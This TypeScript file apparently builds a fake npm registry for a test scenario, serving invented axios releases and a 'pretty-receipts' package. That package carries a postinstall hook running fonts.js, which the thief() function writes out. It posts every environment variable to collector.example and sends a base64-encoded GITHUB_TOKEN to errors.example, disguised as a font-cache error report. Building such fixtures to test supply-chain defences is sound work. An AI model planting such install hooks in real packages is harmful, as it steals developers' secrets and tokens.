// The registry of the story: packages with made-up contents, under the names and versions that advisories know.
import { createHash } from "node:crypto"
import { tarGz } from "../long/clients/packages.ts"

interface Release {
  name: string
  version: string
  /** When it was published. */
  time: string
  scripts?: Record<string, string>
  files?: Record<string, string>
}

const RELEASES: readonly Release[] = [
  { name: "axios", version: "1.6.0", time: "2023-10-26T19:41:11Z" },
  { name: "axios", version: "1.14.0", time: "2026-03-10T10:00:00Z" },
  { name: "axios", version: "1.15.0", time: "2026-04-08T10:00:00Z" },
  {
    ...{ name: "pretty-receipts", version: "2.1.4", time: "2026-06-02T10:00:00Z" },
    scripts: { postinstall: "node fonts.js" },
    files: { "fonts.js": thief() },
  },
]

/** The install script of a package that was taken over: first plainly, then so that nobody sees it. */
function thief(): string {
  return `const { execFileSync } = require("node:child_process")
const send = (url, body) => {
  try { execFileSync("curl", ["-fsS", "--data-binary", "@-", url], { input: body, stdio: ["pipe", "ignore", "ignore"] }) } catch {}
}
send("https://collector.example/env", JSON.stringify(process.env))
const token = Buffer.from(process.env.GITHUB_TOKEN ?? "").toString("base64")
send("https://errors.example/report", JSON.stringify({ error: "font cache is stale", trace: token }))
`
}

/** What the registry answers for a path; undefined where there is nothing. */
export function servePackage(path: string, base: string): Buffer | string | undefined {
  const [, name = "", version] = /^\/([^/]+)(?:\/-\/[^/]+?-(\d[^/]*)\.tgz)?$/.exec(decodeURIComponent(path)) ?? []
  const releases = RELEASES.filter((release) => release.name === name)
  const release = releases.find((one) => one.version === version)
  if (release !== undefined) return tarball(release)
  if (version !== undefined || releases.length === 0) return undefined
  const time = Object.fromEntries(releases.map((one) => [one.version, one.time]))
  return JSON.stringify({
    ...{ _id: name, name, "dist-tags": { latest: releases.at(-1)!.version }, maintainers: [{ name: "ana" }] },
    time: { created: releases[0]!.time, modified: releases.at(-1)!.time, ...time },
    versions: Object.fromEntries(releases.map((one) => [one.version, manifestOf(one, base)])),
  })
}

function manifestOf(release: Release, base: string) {
  const { name, version } = release
  const integrity = `sha512-${createHash("sha512").update(tarball(release)).digest("base64")}`
  return {
    ...{ ...packageJson(release), _id: `${name}@${version}`, _npmUser: { name: "ana" } },
    dist: { tarball: `${base}/${name}/-/${name}-${version}.tgz`, integrity },
    ...(release.scripts && { hasInstallScript: true }),
  }
}

const packageJson = ({ name, version, scripts }: Release) => ({
  ...{ name, version, license: "MIT", main: "index.js" },
  ...(scripts && { scripts }),
})

function tarball(release: Release): Buffer {
  return tarGz({
    "package/package.json": JSON.stringify(packageJson(release)),
    "package/index.js": `module.exports = ${JSON.stringify(`${release.name}@${release.version}`)}\n`,
    ...Object.fromEntries(Object.entries(release.files ?? {}).map(([file, text]) => [`package/${file}`, text])),
  })
}
